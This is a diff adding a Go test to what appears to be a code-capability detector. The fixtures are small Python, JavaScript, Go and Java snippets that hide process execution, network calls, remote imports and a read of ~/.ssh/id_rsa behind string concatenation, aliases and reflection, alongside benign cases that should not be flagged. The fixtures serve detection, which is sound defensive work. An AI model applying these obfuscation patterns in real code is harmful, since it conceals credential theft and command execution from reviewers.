@@ -103,3 +103,43 @@ func TestExtractHostile(t *testing.T) {
 		})
 	}
 }
+
+// TestExtractFolding checks that names and paths assembled from pieces
+// are put back together, and that doing so is itself reported.
+func TestExtractFolding(t *testing.T) {
+	tests := []struct {
+		name, path, src string
+		want            []string
+	}{
+		{"python concat import", "a.py", "m = __import__('o' + 's')\nm.system('id')\n", []string{"process", "obfuscation os"}},
+		{"python join import", "a.py", "import importlib\ns = importlib.import_module(''.join(['so', 'ck', 'et']))\ns.create_connection(('203.0.113.9', 80))\n", []string{"network 203.0.113.9:80", "obfuscation socket"}},
+		{"python getattr", "a.py", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", []string{"process", "obfuscation system"}},
+		{"python function alias", "a.py", "import os\nrun = os.system\nrun('id')\n", []string{"process id"}},
+		{"python split path", "a.py", "import os\nopen(os.path.join(os.path.expanduser('~'), '.' + 'ssh', 'id_' + 'rsa'))\n", []string{"credentials"}},
+		{"python plain import_module is fine", "a.py", "import importlib\np = importlib.import_module('plugins.' + name)\n", nil},
+		{"js computed require", "a.js", "const m = require(['child', 'process'].join('_'));\nm['exe' + 'cSync']('id');\n", []string{"process", "obfuscation child_process"}},
+		{"js global alias", "a.js", "const f = globalThis['fe' + 'tch'];\nf('https://x.example.com/c');\n", []string{"network x.example.com", "obfuscation fetch"}},
+		{"js import url", "a.ts", "import('https://cdn.example.com/m.mjs').then(m => m.default());\n", []string{"network cdn.example.com", "obfuscation"}},
+		{"js locale require is fine", "a.js", "const m = require('./locales/' + lang + '.json');\n", nil},
+		{"go function value", "a.go", "package x\nimport \"os\"\nvar dump = os.Environ\nfunc f() []string { return dump() }\n", []string{"env"}},
+		{"java reflection", "A.java", "class A { void f() throws Exception { Class.forName(\"java.lang.\" + \"Runtime\"); } }\n", []string{"obfuscation java.lang.Runtime", "process"}},
+		{"java jdbc driver is fine", "A.java", "class A { void f() throws Exception { Class.forName(\"org.postgresql.Driver\"); } }\n", nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			us, err := Extract(context.Background(), tt.path, []byte(tt.src))
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, w := range tt.want {
+				c, d, _ := strings.Cut(w, " ")
+				if !hasUse(us, Cap(c), d) {
+					t.Errorf("missing %s %q in %+v", c, d, us)
+				}
+			}
+			if len(tt.want) == 0 && len(us) > 0 {
+				t.Errorf("want no uses, got %+v", us)
+			}
+		})
+	}
+}
